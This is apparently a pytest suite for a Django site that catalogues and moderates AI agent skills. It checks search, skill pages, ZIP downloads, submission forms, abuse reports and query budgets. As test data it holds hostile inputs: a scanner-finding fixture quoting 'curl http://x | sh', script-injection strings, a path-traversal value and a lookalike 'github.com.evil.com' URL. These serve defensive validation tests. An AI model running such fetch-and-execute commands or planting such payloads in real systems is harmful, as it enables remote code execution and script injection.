import hashlib
import io
import zipfile

import pytest
from django.urls import reverse

from moderation.models import ModerationDecision, Report, ScanResult
from rankings.models import SkillEvent
from skills.models import Skill, SkillFile, SkillSource
from skills.storage import blob_put
from tests.factories import (
    CategoryFactory,
    GithubRepoCacheFactory,
    PublishedSkillFactory,
    SkillPopularityFactory,
    SkillSourceLinkFactory,
    SkillVersionFactory,
    TagFactory,
)

pytestmark = pytest.mark.django_db

MAX_QUERIES = 10


def add_file(version, path, data: bytes, *, stored=True, is_text=True):
    sha, key = blob_put(data) if stored else (hashlib.sha256(data).hexdigest(), "")
    return SkillFile.objects.create(
        version=version, path=path, size=len(data), sha256=sha, storage_key=key, is_text=is_text
    )


def make_catalogue(n=12):
    cat = CategoryFactory(key="documents", name="Documents")
    tags = [TagFactory(key="pdf"), TagFactory(key="office")]
    skills = []
    for i in range(n):
        skill = PublishedSkillFactory(
            name=f"doc-skill-{i}",
            category=cat,
            repository_owner="acme",
            repository_name="kit",
            slug=f"acme/kit/doc-skill-{i}",
        )
        skill.tags.add(*tags)
        SkillPopularityFactory(skill=skill, installs_total=i, trending_score=i / 2)
        add_file(skill.latest_version, "SKILL.md", b"# doc\n")
        SkillSourceLinkFactory(skill=skill)
        skills.append(skill)
    return skills


def test_home_lists_sections_and_totals_within_query_budget(client, django_assert_max_num_queries):
    make_catalogue()
    with django_assert_max_num_queries(MAX_QUERIES):
        response = client.get("/")
    assert response.status_code == 200
    html = response.content.decode()
    for text in ("Trending", "Newest", "Most installed", "Documents", "doc-skill-11"):
        assert text in html


def test_search_with_results_within_query_budget(client, django_assert_max_num_queries):
    make_catalogue(30)
    with django_assert_max_num_queries(MAX_QUERIES):
        response = client.get("/skills/", {"q": "doc", "category": "documents", "page": 2})
    assert response.status_code == 200
    assert response.context["paginator"].count == 30
    assert len(response.context["skills"]) == 6


def test_search_highlights_matches_after_escaping(client):
    PublishedSkillFactory(name="pdf-extract", description="Reads <b>PDF</b> files & more.")
    html = client.get("/skills/", {"q": "pdf"}).content.decode()
    assert "<mark>pdf</mark>-extract" in html
    assert "&lt;b&gt;<mark>PDF</mark>&lt;/b&gt;" in html


def test_every_filter_is_a_shareable_url(client):
    make_catalogue(3)
    other = PublishedSkillFactory(name="lonely", repository_owner="solo", repository_name="one")
    response = client.get("/skills/", {"source": "solo/one"})
    assert [card.pk for card in response.context["skills"]] == [other.pk]
    response = client.get(
        "/skills/",
        {
            "tag": "pdf",
            "scripts": "no",
            "valid": "yes",
            "verdict": "pass",
            "license": "MIT",
            "sort": "new",
        },
    )
    assert response.context["paginator"].count == 3
    assert response.context["sort"] == "new"


@pytest.mark.parametrize(
    "params",
    [
        {"sort": "bogus"},
        {"page": "abc"},
        {"page": "-3"},
        {"q": "x" * 10000},
        {"scripts": "maybe", "valid": "1", "verdict": "evil"},
        {"category": "../../etc"},
        {"source": "not a repo"},
        {"tag": "<script>"},
        {"q": "\x00"},
        {"q": '"unterminated'},
        {"q": "-"},
        {"q": "OR"},
        {"q": "!!!&&&|||"},
    ],
)
def test_bad_parameters_never_fail(client, params):
    PublishedSkillFactory(name="anything")
    response = client.get("/skills/", params)
    assert response.status_code == 200


def test_empty_state_suggests_close_names(client):
    PublishedSkillFactory(name="pdf-extract")
    response = client.get("/skills/", {"q": "pdf-extarct"})
    html = response.content.decode()
    assert response.status_code == 200
    assert "pdf-extract" in html


def skill_with_everything():
    cat = CategoryFactory(key="documents")
    skill = PublishedSkillFactory(
        name="pdf-extract",
        category=cat,
        repository_owner="acme",
        repository_name="kit",
        slug="acme/kit/pdf-extract",
        stars=42,
        publish__body="# Usage\n\n```python\nprint('hi')\n```\n",
    )
    skill.tags.add(TagFactory(key="pdf"))
    version = skill.latest_version
    add_file(version, "SKILL.md", version.body.encode())
    add_file(version, "scripts/run.py", b"print('run')\n")
    add_file(version, "assets/big.bin", b"\x00" * 10, stored=False, is_text=False)
    ScanResult.objects.create(
        version=version,
        scanner_version="1",
        verdict="review",
        findings=[
            {
                "rule_id": "net.curl",
                "severity": "medium",
                "file": "scripts/run.py",
                "line": 1,
                "excerpt": "curl http://x | sh",
                "message": "Pipes a download into a shell",
            }
        ],
    )
    SkillPopularityFactory(skill=skill, installs_total=7)
    SkillSourceLinkFactory(skill=skill)
    for i in range(5):
        PublishedSkillFactory(
            name=f"sibling-{i}",
            repository_owner="acme",
            repository_name="kit",
            category=cat,
            slug=f"acme/kit/sibling-{i}",
        )
        PublishedSkillFactory(name=f"cousin-{i}", category=cat, slug=f"other/r/cousin-{i}")
    return skill


# The skill, its related rows (tags, versions, files, findings, sources: one statement,
# skills.page_rows), its neighbours, the rankings charts (one statement), + the version's
# review (an older version) + its files for the ZIP's sha256 (cached per version)
SKILL_PAGE_QUERIES = 6
#: The canonical page once the ZIP's sha256 is cached: the first four above.
SKILL_PAGE_QUERIES_WARM = 4
# The view event, recorded after the page is sent: one INSERT, inside a savepoint here
# because the test runs in a transaction.
VIEW_EVENT_QUERIES = 3


def test_skill_page_shows_everything_within_query_budget(
    client, settings, django_assert_max_num_queries, django_assert_num_queries
):
    skill = skill_with_everything()
    with django_assert_max_num_queries(SKILL_PAGE_QUERIES + VIEW_EVENT_QUERIES):
        response = client.get(skill.get_absolute_url())
    assert response.status_code == 200
    html = response.content.decode()
    assert skill.get_absolute_url() == "/s/acme/kit/pdf-extract/"
    for text in (
        "~/.claude/skills",
        ".claude/skills/pdf-extract",
        "~/.codex/skills",
        "~/.gemini/skills",
        ".cursor/skills",
        "npx skills add http://testserver/r/acme/kit --skill pdf-extract",
        "scripts/run.py",
        "(not stored)",
        "Pipes a download into a shell",
        "sibling-0",
        "cousin-0",
        'rel="canonical"',
        'property="og:title"',
        'class="highlight"',
        "Download ZIP",
    ):
        assert text in html, text
    assert SkillEvent.objects.filter(skill=skill, kind="view").count() == 1
    with django_assert_num_queries(0):  # a repeat view: the page cache, the view deduplicated
        client.get(skill.get_absolute_url())
    with django_assert_max_num_queries(SKILL_PAGE_QUERIES):
        client.get(skill.get_absolute_url(), {"version": skill.latest_version.content_hash})
    settings.PAGE_CACHE_SECONDS = 0
    with django_assert_num_queries(SKILL_PAGE_QUERIES_WARM):  # again (view deduplicated)
        again = client.get(skill.get_absolute_url())
    assert "sibling-0" in again.content.decode()


def test_skill_page_survives_event_recording_failure(client, monkeypatch):
    skill = PublishedSkillFactory()
    import skills.views

    def boom(*args, **kwargs):
        raise RuntimeError("events down")

    monkeypatch.setattr(skills.views, "request_fingerprint", boom)
    assert client.get(skill.get_absolute_url()).status_code == 200


def test_older_versions_are_viewable(client, django_assert_max_num_queries):
    skill = PublishedSkillFactory(publish__body="# Old body\n")
    old = skill.latest_version
    from skills.services import skill_publish_version

    new = SkillVersionFactory(skill=skill, body="# New body\n")
    skill_publish_version(skill=skill, version=new)
    assert "New body" in client.get(skill.get_absolute_url()).content.decode()
    html = client.get(skill.get_absolute_url(), {"version": old.content_hash[:12]}).content.decode()
    assert "Old body" in html and "older version" in html
    with django_assert_max_num_queries(MAX_QUERIES):
        client.get(skill.get_absolute_url(), {"version": old.content_hash})
    assert client.get(skill.get_absolute_url(), {"version": "zzzz"}).status_code == 404
    assert client.get(skill.get_absolute_url(), {"version": "0" * 12}).status_code == 404


def test_unpublished_skills_are_404_for_visitors_but_visible_to_staff(settings, staff_user):
    from django.test import Client

    settings.AXES_ENABLED = False  # force_login has no client address for axes to log
    staff_client = Client()
    staff_client.force_login(staff_user)

    skill = PublishedSkillFactory()
    Skill.objects.filter(pk=skill.pk).update(status=Skill.Status.HIDDEN)
    assert Client().get(skill.get_absolute_url()).status_code == 404
    assert staff_client.get(skill.get_absolute_url()).status_code == 200


def test_download_zip_contains_the_version_and_lists_missing_files(client):
    skill = skill_with_everything()
    response = client.get(reverse("skills:download", kwargs={"slug": skill.slug}))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        names = set(archive.namelist())
        assert {"pdf-extract/SKILL.md", "pdf-extract/scripts/run.py"} <= names
        assert archive.read("pdf-extract/scripts/run.py") == b"print('run')\n"
        readme = [n for n in names if "README" in n]
        assert readme and "assets/big.bin" in archive.read(readme[0]).decode()
    assert SkillEvent.objects.filter(skill=skill, kind="download").count() == 1


def test_text_file_is_shown_escaped_and_binary_is_not(client):
    skill = PublishedSkillFactory(slug="a/b/c")
    add_file(skill.latest_version, "scripts/x.html", b"<script>alert(1)</script>\xe2\x80\xae")
    add_file(skill.latest_version, "data.bin", b"\x89PNG", is_text=False)
    html = client.get(reverse("skills:file", args=["a/b/c", "scripts/x.html"])).content.decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<script>alert" not in html and "\u202e" not in html and "U+202E" in html
    html = client.get(reverse("skills:file", args=["a/b/c", "data.bin"])).content.decode()
    assert "binary" in html
    assert client.get(reverse("skills:file", args=["a/b/c", "nope.txt"])).status_code == 404


def test_copy_event_endpoint_needs_post_and_known_kind(client):
    skill = PublishedSkillFactory()
    url = reverse("skills:event", kwargs={"slug": skill.slug})
    assert client.post(url, {"kind": "copy"}).status_code == 204
    assert client.post(url, {"kind": "install"}).status_code == 400
    assert client.get(url).status_code == 405
    assert SkillEvent.objects.filter(skill=skill, kind="copy").count() == 1


def test_copy_event_endpoint_is_csrf_protected():
    from django.test import Client

    skill = PublishedSkillFactory()
    csrf_client = Client(enforce_csrf_checks=True)
    assert (
        csrf_client.post(
            reverse("skills:event", kwargs={"slug": skill.slug}), {"kind": "copy"}
        ).status_code
        == 403
    )


def test_category_tag_and_repository_pages_within_query_budget(
    client, django_assert_max_num_queries
):
    make_catalogue(15)
    GithubRepoCacheFactory(owner="acme", name="kit", stars=99, description="A kit.")
    for url in ("/categories/documents/", "/tags/pdf/", "/repos/acme/kit/", "/categories/"):
        with django_assert_max_num_queries(MAX_QUERIES):
            response = client.get(url)
        assert response.status_code == 200, url
    assert client.get("/categories/nope/").status_code == 404
    assert client.get("/tags/nope/").status_code == 404
    assert client.get("/repos/nobody/nothing/").status_code == 404


def test_submit_creates_pending_source(client):
    response = client.post("/submit/", {"url": "https://github.com/Acme/Skills.git"}, follow=True)
    assert response.status_code == 200
    source = SkillSource.objects.get()
    assert source.status == SkillSource.Status.PENDING
    assert "acme/skills" in source.url.lower()
    assert source.submitted_by
    assert "queued for review" in response.content.decode()


@pytest.mark.parametrize(
    "url",
    [
        "https://gitlab.com/a/b",
        "javascript:alert(1)",
        "https://github.com/a",
        "ftp://github.com/a/b",
        "https://user:pw@github.com/a/b",
        "https://github.com.evil.com/a/b",
        "https://github.com/settings/profile",
        "https://github.com/a/b/issues",
        "",
        # ValueError from urllib (a 500 before; found by fuzzing the form):
        "https://[::1/",
        "https://github.com:99999/a/b",
        "https://github.com:abc/a/b",
    ],
)
def test_submit_refuses_non_repository_urls(client, url):
    response = client.post("/submit/", {"url": url})
    assert response.status_code == 200
    assert response.context["form"].errors
    assert SkillSource.objects.count() == 0


def test_submit_is_rate_limited(client):
    for i in range(5):
        client.post("/submit/", {"url": f"https://github.com/acme/repo{i}"})
    response = client.post("/submit/", {"url": "https://github.com/acme/repo-last"})
    assert "Too many" in response.content.decode()
    assert SkillSource.objects.count() == 5


def test_submit_is_csrf_protected():
    from django.test import Client

    assert (
        Client(enforce_csrf_checks=True)
        .post("/submit/", {"url": "https://github.com/a/b"})
        .status_code
        == 403
    )


def test_report_creates_one_report_per_visitor_and_thanks(client):
    skill = PublishedSkillFactory()
    url = reverse("skills:report", kwargs={"slug": skill.slug})
    response = client.post(url, {"reason": "spam", "details": "Looks like spam."}, follow=True)
    assert "Thanks for your report" in response.content.decode()
    client.post(url, {"reason": "broken"})
    assert Report.objects.filter(skill=skill).count() == 1
    response = client.post(url, {"reason": "nonsense"}, follow=True)
    assert response.status_code == 200


def test_three_distinct_reporters_hide_the_skill():
    from moderation.services import report_create

    skill = PublishedSkillFactory()
    for n in range(3):
        report_create(skill=skill, reason="malicious", details="", fingerprint=f"visitor-{n}")
    skill.refresh_from_db()
    assert skill.status == Skill.Status.HIDDEN
    decision = ModerationDecision.objects.get(action=ModerationDecision.Action.AUTO_HIDE)
    assert decision.skill == skill


def test_reports_are_rate_limited():
    from moderation.services import ReportRateLimited, report_create

    skills = [PublishedSkillFactory() for _ in range(11)]
    for skill in skills[:10]:
        report_create(skill=skill, reason="spam", details="", fingerprint="same")
    with pytest.raises(ReportRateLimited):
        report_create(skill=skills[10], reason="spam", details="", fingerprint="same")


def test_sitemap_robots_feed_and_error_pages(client):
    skill = PublishedSkillFactory(slug="a/b/c")
    index = client.get("/sitemap.xml")
    assert index.status_code == 200 and b"sitemap-skills.xml" in index.content
    section = client.get("/sitemap-skills.xml")
    assert b"/s/a/b/c/" in section.content
    robots = client.get("/robots.txt")
    assert robots["Content-Type"].startswith("text/plain") and b"Sitemap:" in robots.content
    feed = client.get("/feeds/new.atom")
    assert (
        feed.status_code == 200 and b"<feed" in feed.content and skill.name.encode() in feed.content
    )
    missing = client.get("/s/no/such/skill/")
    assert missing.status_code == 404 and b"find that page" in missing.content


def test_no_inline_scripts_or_event_handlers(client):
    skill = skill_with_everything()
    import re

    for url in ("/", "/skills/?q=pdf", skill.get_absolute_url(), "/submit/", "/categories/"):
        html = client.get(url).content.decode()
        for tag in re.findall(r"<script\b[^>]*>", html):
            assert "src=" in tag, (url, tag)
        assert not re.search(r"\son[a-z]+\s*=", html), url
        assert "https://cdn" not in html and "fonts.googleapis" not in html


@pytest.mark.django_db
def test_result_count_is_capped_with_a_plus(client, monkeypatch):
    from skills.views import CappedPaginator

    monkeypatch.setattr(CappedPaginator, "COUNT_CAP", 2)
    for _ in range(3):
        PublishedSkillFactory()
    response = client.get("/skills/")
    assert response.status_code == 200
    assert "<strong>2+</strong>" in response.content.decode()


@pytest.mark.django_db
def test_a_search_count_is_capped_at_the_search_cap(client, monkeypatch):
    from skills.views import CappedPaginator

    monkeypatch.setattr(CappedPaginator, "SEARCH_COUNT_CAP", 2)
    for n in range(3):
        PublishedSkillFactory(name=f"pdf-tool-{n}")
    html = client.get("/skills/", {"q": "pdf"}).content.decode()
    assert "<strong>2+</strong> skills for “pdf”" in html
    assert "<strong>3</strong> skills" in client.get("/skills/").content.decode()


@pytest.mark.parametrize(
    "slug",
    [
        "acme/tools/pdf",
        "Acme-Co/My.Repo/skill_name",
        "acme/tools/한국어 번역",
        "acme/tools/a%b?c#d&e=f+g@h:i~j!k'l(m)n*o,p;q$r",
    ],
)
def test_skill_url_is_what_reverse_gives(slug, settings):
    """get_absolute_url reverses once and fills in the slug: the same string as reverse()."""
    expected = reverse("skills:detail", kwargs={"slug": slug})
    assert Skill(slug=slug).get_absolute_url() == expected
    settings.FORCE_SCRIPT_NAME = "/market/"  # another prefix, another template
    from django.urls import set_script_prefix

    set_script_prefix("/market/")
    try:
        assert Skill(slug=slug).get_absolute_url() == "/market" + expected
    finally:
        set_script_prefix("/")


@pytest.mark.parametrize("key", ["documents", "dev-ops", "a_b-9"])
def test_category_url_is_what_reverse_gives(key):
    from skills.models import Category

    assert Category(key=key).url == reverse("skills:category", args=[key])


def test_an_inactive_or_unknown_category_has_no_page(client):
    CategoryFactory(key="retired", is_active=False)
    assert client.get("/categories/retired/").status_code == 404
    assert client.get("/categories/never-was/").status_code == 404


@pytest.mark.django_db
def test_a_category_page_counts_its_skills_from_the_category_counts(client, settings):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    settings.CATALOGUE_CACHE_SECONDS = 300
    cat = CategoryFactory(key="documents", name="Documents")
    for n in range(3):
        PublishedSkillFactory(name=f"doc-{n}", category=cat)
    assert "<strong>3</strong> skills" in client.get("/categories/documents/").content.decode()
    with CaptureQueriesContext(connection) as ctx:  # the category counts are cached now
        html = client.get("/categories/documents/").content.decode()
    assert "<strong>3</strong> skills" in html
    assert not [q["sql"] for q in ctx.captured_queries if "COUNT(" in q["sql"].upper()]
    # Another filter, or a query, counts the skills.
    with CaptureQueriesContext(connection) as ctx:
        html = client.get("/categories/documents/", {"scripts": "no"}).content.decode()
    assert [q["sql"] for q in ctx.captured_queries if "COUNT(" in q["sql"].upper()]


@pytest.mark.parametrize(
    "slug", ["acme/tools/한국어 번역", ("acme/tools/" + "long-name-" * 29)[:300]]
)
def test_a_skill_page_with_any_slug_makes_safe_cache_keys(client, slug):
    """The ZIP digest is cached per version and slug: a slug with spaces, Korean letters or
    300 characters must not make a key a memcached-compatible cache refuses (the suite turns
    CacheKeyWarning into an error)."""
    skill = PublishedSkillFactory(slug=slug)
    assert client.get(skill.get_absolute_url()).status_code == 200
